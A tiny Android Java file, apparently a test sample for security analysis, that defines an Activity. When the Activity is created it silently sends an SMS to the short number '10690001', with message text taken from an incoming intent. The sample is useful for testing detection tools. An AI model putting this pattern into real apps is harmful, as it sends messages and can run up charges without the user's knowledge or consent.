package cn.shanhai.componentnotdeclared;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class SendActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    SmsManager.getDefault().sendTextMessage("10690001", null, getIntent().getStringExtra("id"), null, null);
  }
}
